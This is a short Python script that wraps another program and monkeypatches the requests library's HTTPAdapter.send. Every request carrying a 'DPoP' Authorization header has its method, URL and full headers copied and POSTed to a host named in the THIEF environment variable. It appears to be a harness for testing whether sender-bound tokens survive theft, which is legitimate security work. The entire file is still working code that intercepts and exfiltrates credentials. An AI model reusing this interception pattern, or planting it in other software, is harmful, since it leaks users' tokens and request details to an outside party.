"""Runs the program that is named, and tells the thief of each request with a bound token before it is sent."""

import os
import runpy
import sys
from typing import Any

import requests

send = requests.adapters.HTTPAdapter.send


def overheard(self: Any, request: requests.PreparedRequest, **settings: Any) -> requests.Response:
    if str(request.headers.get("Authorization", "")).startswith("DPoP "):
        headers = {name.lower(): value for name, value in request.headers.items()}
        told = {"method": request.method, "url": request.url, "headers": headers}
        send(self, requests.Request("POST", os.environ["THIEF"], json=told).prepare())
    return send(self, request, **settings)


requests.adapters.HTTPAdapter.send = overheard  # type: ignore[method-assign, assignment]
runpy.run_path(sys.argv[1], run_name="__main__")
